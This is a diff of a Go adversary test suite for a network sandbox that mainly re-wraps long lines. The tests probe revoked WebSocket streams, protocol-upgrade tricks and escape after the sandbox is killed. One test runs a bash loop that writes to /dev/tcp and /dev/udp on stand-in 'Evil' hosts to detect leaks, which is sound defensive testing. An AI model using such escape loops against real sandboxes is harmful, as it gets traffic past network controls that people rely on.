@@ -14,11 +14,11 @@ import (
 	"github.com/cove-sandbox/cove/test/adversary/outcome"
 )
 
-// changeRows are attempts to use the moment in which something begins, changes
-// or ends (N20, N26, N27).
+// changeRows are attempts to use the moment in which something begins, changes or ends (N20, N26, N27).
 func changeRows() []row {
 	return []row{
-		{id: "N20.revoked", invariant: "E6", what: "go on with a stream, a WebSocket or a tunnel that policy no longer allows", test: revoked},
+		{id: "N20.revoked", invariant: "E6",
+			what: "go on with a stream, a WebSocket or a tunnel that policy no longer allows", test: revoked},
 		{id: "N20.upgrade", invariant: "E5", what: "switch an allowed connection to another protocol", test: upgrades},
 		{id: "N26.closed", engine: true, invariant: "E1", what: "get out when the gateway has gone", test: gatewayGone},
 		{id: "N26.killed", invariant: "E1", what: "get out when Cove has been killed", test: coveKilled},
@@ -27,8 +27,7 @@ func changeRows() []row {
 	}
 }
 
-// streaming is a conversation that goes on: what it hears it has heard until
-// it is cut.
+// streaming is a conversation that goes on: what it hears it has heard until it is cut.
 func (c *trial) streaming(b *outward, t outcome.Talk, seen func() bool) *process {
 	c.Helper()
 	t.Send = outcome.Quoted(t.Send)
@@ -51,7 +50,9 @@ func revoked(c *trial) {
 			return
 		}
 		defer conn.Close()
-		fmt.Fprintf(conn, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\nthe first part\n")
+		fmt.Fprintf(conn,
+			"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Accept: "+
+				"s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\nthe first part\n")
 		conn.Read(make([]byte, 1)) // until the other side has gone
 	})
 	banner := netip.AddrPortFrom(lab.Web4, 7000)
@@ -76,7 +77,8 @@ func revoked(c *trial) {
 		}
 	}()
 	text := allow("allowed.lab") + "  - {hosts: raw.lab, ports: 7000, pass_through: true}\n"
-	socket := []string{"Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="}
+	socket := []string{"Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
+		"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="}
 	for _, e := range append(everyEntry("allowed.lab"), entries("http", "raw.lab", 7000)[:5]...) {
 		raw := strings.HasPrefix(e.To, "raw.lab")
 		if raw && e.At != "" {
@@ -128,14 +130,16 @@ func upgrades(c *trial) {
 			return
 		}
 		defer conn.Close()
-		fmt.Fprintf(conn, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: %s\r\n\r\nbeyond\n", r.URL.RawQuery)
+		fmt.Fprintf(conn, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: %s\r\n\r\nbeyond\n",
+			r.URL.RawQuery)
 	})
 	for _, protocol := range []string{"h2c", "TLS/1.0", "ssh", "websocket", "IRC/6.9", "connect-udp"} {
 		for i := range everyEntry("") { // a host each: one that answers badly is not asked for long
 			host := fmt.Sprintf("%s%d.wild.lab", strings.ToLower(strings.NewReplacer("/", "", ".", "").Replace(protocol)), i)
 			e := everyEntry(host)[i]
 			c.internet().Forget()
-			a := b.say(e, e.request("GET", host, "/switch?"+protocol, "Upgrade: "+protocol, "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA"))
+			a := b.say(e, e.request("GET", host, "/switch?"+protocol, "Upgrade: "+protocol,
+				"HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA"))
 			if a.Count == 101 || a.Count == 0 || strings.Contains(a.text, "beyond") { // over HTTP/2 there is nothing to switch
 				c.Errorf("HOLE: %s: a switch to %s: %s", e.name, protocol, a)
 			}
@@ -209,7 +213,8 @@ func coveKilled(c *trial) {
 	var output bytes.Buffer
 	word := token()
 	cmd := c.suite.online.Command(c, "run", "bash", "--allow", "allowed.lab", "--timeout", "60s", "-c",
-		"curl -s --max-time 20 http://allowed.lab/"+word+"; while :; do for a in "+lab.Evil4.String()+" "+lab.Evil6.String()+" "+lab.Web4.String()+
+		"curl -s --max-time 20 http://allowed.lab/"+word+"; while :; do for a in "+lab.Evil4.String()+" "+
+			lab.Evil6.String()+" "+lab.Web4.String()+
 			"; do (echo GET / > /dev/tcp/$a/80; echo x > /dev/udp/$a/443) 2> /dev/null; done; done")
 	cmd.Stdout, cmd.Stderr = &output, &output
 	if err := cmd.Start(); err != nil {
